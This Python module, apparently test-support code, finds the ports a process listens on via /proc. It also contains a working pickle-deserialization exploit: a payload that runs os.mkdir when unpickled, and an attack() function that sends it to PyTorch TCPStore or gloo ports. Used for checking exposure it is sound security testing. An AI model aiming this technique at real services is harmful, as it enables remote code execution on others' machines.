"""What a process listens on, as the kernel knows it; also in a network namespace of its own."""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import os
import pickle
import socket
from collections.abc import Iterable
from dataclasses import dataclass
from pathlib import Path

import psutil

_LISTEN, _UNCONNECTED = "0A", "07"


@dataclass(frozen=True)
class Listener:
    """A TCP or UDP socket that takes what strangers send."""

    process: int
    kind: str
    address: str
    port: int

    @property
    def is_loopback(self) -> bool:
        return ipaddress.ip_address(self.address).is_loopback


def received(client: socket.socket) -> bytes:
    """All that the other end sends until it closes the connection."""
    parts = []
    with contextlib.suppress(ConnectionResetError):
        while part := client.recv(65536):
            parts.append(part)
    return b"".join(parts)


def listeners(processes: Iterable[psutil.Process]) -> list[Listener]:
    """All that ``processes`` listen on; processes that end meanwhile count as far as they were seen."""
    found = []
    for process in processes:
        with contextlib.suppress(OSError):
            inodes = _socket_inodes(process.pid)
            for kind in ("tcp", "tcp6", "udp", "udp6"):
                for line in Path(f"/proc/{process.pid}/net/{kind}").read_text().splitlines()[1:]:
                    fields = line.split()
                    if fields[9] in inodes and fields[3] == (_LISTEN if kind.startswith("tcp") else _UNCONNECTED):
                        found.append(Listener(process.pid, kind, *_parse(fields[1])))
    return found


def _socket_inodes(pid: int) -> set[str]:
    inodes = set()
    for link in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            target = str(link.readlink())
            if target.startswith("socket:["):
                inodes.add(target[8:-1])
    return inodes


def _parse(text: str) -> tuple[str, int]:
    """The kernel writes an address as words of 32 bits, each with its bytes reversed."""
    digits, _, port = text.partition(":")
    raw = b"".join(bytes.fromhex(digits[i : i + 8])[::-1] for i in range(0, len(digits), 8))
    return str(ipaddress.ip_address(raw)), int(port, 16)


class Payload:
    """Leaves a file at ``path`` where it is unpickled: what an attacker's code would do."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self.path),)


_VALIDATE = b"\x00" + (0x3C85F7CE).to_bytes(4, "little")
"""How a client of torch's TCPStore begins."""


def attack(address: str, port: int, payload: bytes, run_id: str) -> bool:
    """Write ``payload`` to a port as a store's rendezvous state, and as a peer of gloo with each of the first numbers
    that a group gives its connections. Return whether anything could be written: the port may be closed meanwhile.
    """
    reached = False
    state = b"\x01" + _counted(f"/torch.rendezvous.{run_id}".encode()) + _counted(base64.b64encode(payload))
    for beginning in (_VALIDATE + state, *(number.to_bytes(8, "little") + payload for number in range(16))):
        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=300) as connection:
            connection.sendall(beginning)
            reached = True
    return reached


def _counted(text: bytes) -> bytes:
    return len(text).to_bytes(8, "little") + text


def payload(path: Path) -> bytes:
    return pickle.dumps(Payload(path))
